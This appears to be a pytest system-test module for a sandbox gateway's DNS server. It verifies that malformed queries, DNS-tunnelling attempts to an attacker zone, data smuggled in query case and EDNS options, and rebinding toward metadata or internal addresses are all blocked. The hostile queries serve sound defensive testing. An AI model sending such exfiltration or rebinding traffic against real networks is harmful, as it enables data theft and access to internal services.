"""DNS attacks in exact bytes, and names whose owners answer with false addresses.

Only rebuilt queries for allowed names leave, and no DNS answer makes an address reachable. The module tests
`gateway/dns/server.py`.
"""

import struct
from collections.abc import Iterator

import pytest

from demo.sandboxes import DemoSandbox
from lifecycle.posture.capture import Frame
from testbed.attacks import Attack, Verdicts, from_outside, from_sandbox
from testbed.hostile_names import REFUSED
from testbed.internet import ADDRESSES, API, ATTACKER, DNS_ADDRESS, METADATA_ADDRESS, STATUS, TUNNEL_ZONE, Internet
from testbed.stack import Stack

pytestmark = pytest.mark.system

RESOLVER = "192.0.2.1"
A, AAAA = 1, 28
MSS = 1000
"""A number of bytes that fits into one packet."""


def _name(name: str) -> str:
    return "".join(chr(len(label)) + label for label in name.split(".") if label) + "\0"


def _query(
    name: str, kind: int = A, *, raw: str | None = None, counts: tuple[int, ...] = (1, 0, 0, 0), **more: int | str
) -> str:
    """Return one message. `raw` replaces the encoded name; `tail` follows the question."""
    flags, cls, ident = int(more.get("flags", 0x0100)), int(more.get("cls", 1)), int(more.get("ident", 0x4D4D))
    head = struct.pack("!HH4H", ident, flags, *counts).decode("latin-1")
    question = (_name(name) if raw is None else raw) + struct.pack("!HH", kind, cls).decode("latin-1")
    return head + question + str(more.get("tail", ""))


def _opt(options: str = "", version: int = 0, size: int = 4096) -> str:
    return "\0" + struct.pack("!HHBBHH", 41, size, 0, version, 0, len(options)).decode("latin-1") + options


def _option(code: int, data: str) -> str:
    return struct.pack("!HH", code, len(data)).decode("latin-1") + data


def _dns(name: str, message: str, **options: object) -> Iterator[Attack]:
    """Yield the same message over UDP and, with its length prefix, over TCP."""
    yield Attack(f"{name}, UDP", (message,), None, RESOLVER, 53, options={"udp": True, "quiet": 0.3, **options})
    framed = len(message).to_bytes(2).decode("latin-1") + message
    yield Attack(f"{name}, TCP", (framed,), None, RESOLVER, 53, options={"quiet": 0.3, **options})


def _nothing() -> Iterator[Attack]:
    for name in (
        f"@@.{TUNNEL_ZONE}",
        f"{'a' * 48}@@.{TUNNEL_ZONE}",
        f"@@.{ATTACKER}",
        f"@@.{API}",
        f"@@x{API}",
        "@@.bank.example",
        "@@.cdn.bank.example.attacker.example",
        "@@.example",
        "@@",
        "@@.localhost",
        "@@.internal",
        "@@.in-addr.arpa",
        "@@.254.169.254.169.in-addr.arpa",
    ):
        yield from _dns(f"a question for {name}", _query(name.replace("@@", "mmarkmmarkz")))
    mark = "mmarkmmarkz"
    for kind in (2, 5, 10, 15, 16, 33, 35, 44, 48, 64, 65, 251, 252, 255, 65280):
        yield from _dns(f"a question of type {kind} for an allowed name", _query(API, kind))
        yield from _dns(f"a question of type {kind} elsewhere", _query(f"{mark}.{TUNNEL_ZONE}", kind))
    for cls in (3, 4, 254, 255):
        yield from _dns(f"a question of class {cls}", _query(API, cls=cls))
    for opcode in range(1, 7):
        yield from _dns(f"opcode {opcode}", _query(API, flags=opcode << 11))
    yield from _dns("a response", _query(API, flags=0x8180))
    denied = _query(f"{mark}.{TUNNEL_ZONE}")[12:]
    for title, message in {
        "two questions, the second denied": _query(API, counts=(2, 0, 0, 0), tail=denied),
        "two questions, the first denied": _query(f"{mark}.{TUNNEL_ZONE}", counts=(2, 0, 0, 0), tail=_query(API)[12:]),
        "no question": _query(API, counts=(0, 0, 0, 0)),
        "65535 questions": _query(API, counts=(65535, 0, 0, 0)),
        "an answer in a question": _query(API, counts=(1, 1, 0, 0), tail=denied + "\0\0\0\0\0\0"),
        "an authority in a question": _query(API, counts=(1, 0, 1, 0), tail=denied + "\0\0\0\0\0\0"),
        "bytes behind the message": _query(API, tail=mark),
        "two OPT records": _query(API, counts=(1, 0, 0, 2), tail=_opt() + _opt()),
        "EDNS version 1": _query(API, counts=(1, 0, 0, 1), tail=_opt(version=1)),
        "a pointer to itself": _query("", raw="\xc0\x0c"),
        "a pointer forward": _query("", raw="\xc0\x20"),
        "two pointers in a circle": _query("", raw="\xc0\x0e\xc0\x0c"),
        "a label and a pointer": _query("", raw="\x03api\xc0\x0c"),
        "a chain of pointers": _query("", raw="".join(f"\xc0{chr(14 + 2 * number)}" for number in range(60))),
        "an extended label": _query("", raw="\x41\x01api\0"),
        "a label of 64": _query("", raw="\x40" + "a" * 64 + "\0"),
        "a name of 300": _query("", raw=("\x3f" + "a" * 63) * 5 + "\0"),
        "a name without an end": _query("", raw="\x3fapi"),
        "half a header": "\x4d\x4d\x01\x00\x00",
        "one byte": "m",
        "a dot inside a label": _query("", raw="\x10api.bank.example\0"),
        "a label with a dot below an allowed name": _query(
            "", raw="\x0b" + mark[:5] + ".cdn12" + "\x04bank\x07example\0"
        ),
        "NUL inside a label": _query("", raw="\x04api\0\x04bank\x07example\0"),
        "a backslash inside a label": _query("", raw="\x07api\\046\x04bank\x07example\0"),
        "an 8-bit label": _query("", raw="\x04api\xff\x04bank\x07example\0"),
        "a blank label": _query("", raw="\x03api\x01 \x04bank\x07example\0"),
        "a label of dots": _query("", raw="\x02..\x04bank\x07example\0"),
        "the root": _query("", raw="\0"),
        "a wildcard": _query("", raw="\x01*\x03cdn\x04bank\x07example\0"),
        "a long label below a wildcard": _query(f"{'a' * 63}.cdn.bank.example"),
        "a label like data below a wildcard": _query("k3j9x0q8w7e6r5t4y3u2i1o0pz.cdn.bank.example"),
        "six labels below a wildcard": _query("a.b.c.d.e.f.cdn.bank.example"),
        "the apex of a wildcard": _query("cdn.bank.example"),
        "a sibling of a wildcard": _query(f"{mark}cdn.bank.example"),
        "HTTP": "GET / HTTP/1.1\r\nHost: api.bank.example\r\n\r\n",
        "TLS": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + "a" * 200,
        "SSH": "SSH-2.0-OpenSSH_9\r\n",
        "random bytes": "\x00\xff" * 300,
    }.items():
        yield from _dns(title, message)
    for title, data in {
        "a frame of length 0": "\0\0",
        "a frame of 65535": "\xff\xff" + _query(API),
        "half a length": "\0",
        "a frame cut short": "\0\xff" + _query(f"{mark}.{TUNNEL_ZONE}"),
    }.items():
        yield Attack(title, (data,), None, RESOLVER, 53, options={"quiet": 0.3})


NOTHING_LEAVES = tuple(_nothing())

# Letter case, options, id, flags and padding of a query could all carry data.
NOISY = _query(
    "aPi.BaNk.ExAmPlE",
    counts=(1, 0, 0, 1),
    ident=0xBEEF,
    flags=0x0130,
    tail=_opt(
        _option(10, "cookiedatacookie")
        + _option(8, "\0\1\x20\0mark")
        + _option(65001, "m" * 500)
        + _option(12, "p" * 200)
    ),
)
NOISY_ATTACKS = tuple(_dns("a noisy question for an allowed name", NOISY))


def _is_question(frame: Frame, protocol: int, server: str = DNS_ADDRESS) -> bool:
    return (frame.destination, frame.protocol, frame.destination_port) == (server, protocol, 53)


def _payload(frame: Frame) -> bytes:
    """Return the payload of a frame of UDP or TCP over IPv4."""
    transport = frame.data[14 + (frame.data[14] & 15) * 4 : 14 + struct.unpack_from("!H", frame.data, 16)[0]]
    return transport[8 if frame.protocol == 17 else (transport[12] >> 4) * 4 :]


def _questions(verdicts: Verdicts) -> list[bytes]:
    """Return the payloads of the UDP queries that arrived at the authoritative server."""
    return [_payload(frame) for frame in verdicts.frames if _is_question(frame, 17)]


@pytest.fixture(scope="module", name="victim")
def _victim(stack: Stack) -> Iterator[str]:
    sandbox = stack.create("runc", policy="hostile-names")
    try:
        yield str(sandbox.id)
    finally:
        sandbox.kill()
        sandbox.close()


@pytest.fixture(scope="module", name="silent")
def _silent(internet: Internet, stack: Stack, victim: str) -> Verdicts:
    return from_sandbox(NOTHING_LEAVES, internet, stack, victim)


def test_not_one_frame_leaves_for_questions_that_policy_does_not_allow(silent: Verdicts) -> None:
    assert [] == silent.frames
    assert [] == silent.noted
    assert "dns.query_rate" not in {
        record.get("rule") for record in silent.records
    }  # each query was refused for its own reason


@pytest.fixture(scope="module", name="open_questions")
def _open_questions(internet: Internet) -> Verdicts:
    """Send the same messages, as the control, from a network without a gateway to the attacker's port 53.

    That port accepts any bytes.
    """
    direct = (Attack(one.name, one.send, None, ATTACKER, 53, options=one.options) for one in NOTHING_LEAVES)
    return from_outside(tuple(direct), internet)


@pytest.mark.parametrize("attack", NOTHING_LEAVES, ids=lambda attack: attack.name)
def test_without_a_gate_it_reaches_the_attacker(attack: Attack, open_questions: Verdicts) -> None:
    """The part of each message that fits into one packet arrives unchanged."""
    sent = str(attack.send[0]).encode("latin-1")[:MSS]
    protocol = 17 if attack.options.get("udp") else 6

    assert sent in {
        _payload(frame)[:MSS] for frame in open_questions.frames if _is_question(frame, protocol, ADDRESSES[ATTACKER])
    }


def test_without_a_gate_their_names_reach_the_authoritative_server(internet: Internet) -> None:
    direct = tuple(
        Attack(one.name, one.send, None, DNS_ADDRESS, 53, options=one.options)
        for one in NOTHING_LEAVES
        if "elsewhere, UDP" in one.name or TUNNEL_ZONE in one.name
    )
    asked = [note for note in from_outside(direct, internet).noted if TUNNEL_ZONE in str(note.get("question"))]

    assert len(direct) <= len(asked)


@pytest.mark.parametrize("attack", NOTHING_LEAVES, ids=lambda attack: attack.name)
def test_no_address_is_answered_to(attack: Attack, silent: Verdicts) -> None:
    answer = silent.answer(attack).encode("latin-1")
    message = answer[2:] if attack.name.endswith("TCP") or "frame" in attack.name else answer

    assert len(message) < 12 or 0 == struct.unpack_from("!H", message, 6)[0]


def test_a_denied_name_has_one_answer_whether_it_exists_or_not(silent: Verdicts) -> None:
    names = [f"a question for {name}, UDP" for name in (f"@@.{ATTACKER}", f"@@.{TUNNEL_ZONE}", "@@.bank.example")]
    answers = [silent.answers[name]["received"].encode("latin-1") for name in names]

    assert {3} == {struct.unpack_from("!H", answer, 2)[0] & 15 for answer in answers}


def test_a_question_for_an_allowed_name_goes_out_rebuilt(internet: Internet, stack: Stack, victim: str) -> None:
    """Letter case, options, id and flags of the sandbox's query reach no server."""
    verdicts = from_sandbox(NOISY_ATTACKS, internet, stack, victim)
    (question,) = _questions(verdicts)
    ident, flags, *counts = struct.unpack_from("!6H", question)

    assert [1, 0, 0, 1] == counts
    assert 0x0100 == flags
    assert 0xBEEF != ident
    assert question[12:].startswith(_name(API).encode("latin-1") + b"\0\1\0\1")
    assert 12 + len(_name(API)) + 4 + 11 == len(question)
    for attack in NOISY_ATTACKS:
        assert ADDRESSES[API] in ".".join(str(ord(character)) for character in verdicts.answer(attack))


def test_a_flood_of_questions_ends_at_the_rate_limit(internet: Internet, stack: Stack) -> None:
    """The gateway answers only the part of the flood that is within the rate, and no query leaves."""
    sandbox = stack.create("runc")
    try:
        frame = "".join(
            len(message).to_bytes(2).decode("latin-1") + message
            for message in (_query(f"n{number}.bank.example") for number in range(90))
        )
        attacks = tuple(
            Attack(f"flood {number}", (frame,), None, RESOLVER, 53, options={"quiet": 1}) for number in range(16)
        )
        verdicts = from_sandbox(attacks, internet, stack, str(sandbox.id))

        assert "dns.query_rate" in {record.get("rule") for record in verdicts.records if record["kind"] == "dns"}
        assert [] == verdicts.frames
    finally:
        sandbox.kill()
        sandbox.close()


_LIARS = (*(f"{label}.bank.example" for label in REFUSED), "alias-inside.bank.example", "loop.bank.example")


def test_an_allowed_name_that_points_inside_is_not_dialled(internet: Internet, stack: Stack, victim: str) -> None:
    """The names have metadata, loopback, private and shared addresses, and the host's own public address.

    The requests are HTTP on port 80 and TLS on port 443.
    """
    attacks = tuple(
        Attack(
            f"{name} {port} {'TLS' if tls else 'HTTP'}",
            (f"GET /@@ HTTP/1.1\r\nHost: {name}\r\n\r\n",),
            name if tls else None,
            ATTACKER,
            port,
        )
        for name in _LIARS
        for port, tls in ((80, False), (443, True))
    )
    host = internet.canary_hits("host")
    verdicts = from_sandbox(attacks, internet, stack, victim)

    assert [] == verdicts.data_frames()
    assert host == internet.canary_hits("host")
    assert [] == [attack.name for attack in attacks if "HTTP/1.1 200" in verdicts.answer(attack)]


def test_where_no_gate_stands_the_metadata_service_answers(internet: Internet) -> None:
    """The control."""
    request = f"GET /@@ HTTP/1.1\r\nHost: {METADATA_ADDRESS}\r\n\r\n"
    attack = Attack("metadata", (request,), None, METADATA_ADDRESS, 80, arrives=("/@@",))
    outside = from_outside((attack,), internet)

    assert outside.expected(attack) == outside.arrived(attack)


def test_of_mixed_answers_only_the_public_address_is_used(internet: Internet, stack: Stack, victim: str) -> None:
    """Each name has mixed addresses, an address that changes, or an answer with a record for the API.

    Each request that arrives does so at the public address.
    """

    def ask(name: str, number: int) -> Attack:
        """Return a request. Every second one is sent after the former answer has left the cache."""
        request = f"GET /@@ HTTP/1.1\r\nHost: {name}.bank.example\r\n\r\n"
        return Attack(f"{name} {number}", (number % 2 * 5.5, request), None, ATTACKER, 80)

    attacks = tuple(ask(name, number) for name in ("mixed", "flip", "foreign") for number in range(8))
    verdicts = from_sandbox(attacks, internet, stack, victim)
    arrived = [attack.name for attack in attacks if verdicts.arrived(attack)]

    assert {ADDRESSES[STATUS]} == {frame.destination for frame in verdicts.data_frames()}
    assert {"mixed", "flip", "foreign"} == {name.split()[0] for name in arrived}


def test_an_address_that_changes_to_an_inner_one_is_judged_again(internet: Internet, stack: Stack) -> None:
    """Every other answer for the name is public, the others are the metadata service. All have a lifetime of zero.

    Each request has a connection of its own: the sandbox is new, and servers end a connection of HTTP/1.0.
    """
    request = "GET /@@ HTTP/1.0\r\nHost: flip.bank.example\r\n\r\n"
    waits = (0.0, 5.5, 11.0)
    attacks = tuple(Attack(f"after {wait} s", (wait, request), None, ATTACKER, 80, options={}) for wait in waits)
    sandbox = stack.create("runc", policy="hostile-names")
    try:
        verdicts = from_sandbox(attacks, internet, stack, str(sandbox.id))
    finally:
        sandbox.kill()
        sandbox.close()
    questions = [question for question in _questions(verdicts) if b"\x04flip" in question]

    assert 2 <= len(questions)
    assert METADATA_ADDRESS not in {frame.destination for frame in verdicts.data_frames()}
    assert 1 <= sum(" 200 " in verdicts.answer(attack) for attack in attacks) < len(attacks)


def test_an_alias_to_the_attacker_does_not_make_him_the_name(internet: Internet, stack: Stack, victim: str) -> None:
    """The name's owner points to the attacker. Without a certificate of that name the attacker gets no request."""
    request = "GET /@@ HTTP/1.1\r\nHost: alias-attacker.bank.example\r\n\r\n"
    attack = Attack("alias", (request,), "alias-attacker.bank.example", ATTACKER)
    verdicts = from_sandbox((attack,), internet, stack, victim)

    assert {ADDRESSES[ATTACKER]} == {frame.destination for frame in verdicts.data_frames()}
    assert not verdicts.heard(attack)
    assert "HTTP/1.1 502" in verdicts.answer(attack)


def test_what_a_liar_says_about_another_name_is_forgotten(internet: Internet, stack: Stack, victim: str) -> None:
    """The answer for `foreign` contains an address for the API. The API's requests still arrive at the API."""
    attacks = (
        Attack(
            "ask the liar", (_query("foreign.bank.example"),), None, RESOLVER, 53, options={"udp": True, "quiet": 0.3}
        ),
        Attack("ask the API", (1.0, f"GET /v1/@@ HTTP/1.1\r\nHost: {API}\r\n\r\n"), arrives=("/v1/@@",)),
    )
    verdicts = from_sandbox(attacks, internet, stack, victim)

    assert verdicts.expected(attacks[1]) == verdicts.arrived(attacks[1])
    assert ADDRESSES[ATTACKER] not in {frame.destination for frame in verdicts.frames}


def test_a_resolved_name_opens_no_address(internet: Internet, stack: Stack, sandboxes: dict[str, DemoSandbox]) -> None:
    """Even after a hundred resolutions, requests by address on any port are denied."""
    sandboxes["runc"].run(f"for i in $(seq 100); do getent hosts {STATUS} >/dev/null; done")
    attacks = tuple(
        Attack(f"port {port}", (f"GET /@@ HTTP/1.1\r\nHost: {ADDRESSES[STATUS]}\r\n\r\n",), None, STATUS, port)
        for port in (22, 25, 80, 443, 8080, 8443)
    )
    verdicts = from_sandbox(attacks, internet, stack, sandboxes["runc"].id)

    assert [] == verdicts.data_frames()


def test_after_all_of_this_an_honest_name_resolves(
    internet: Internet, stack: Stack, victim: str, silent: Verdicts
) -> None:
    attack = Attack("honest", (f"GET /v1/@@ HTTP/1.1\r\nHost: {API}\r\n\r\n",), arrives=("/v1/@@",))
    verdicts = from_sandbox((attack,), internet, stack, victim)

    assert verdicts.expected(attack) == verdicts.arrived(attack)
    assert verdicts.logged_requests == verdicts.received_requests
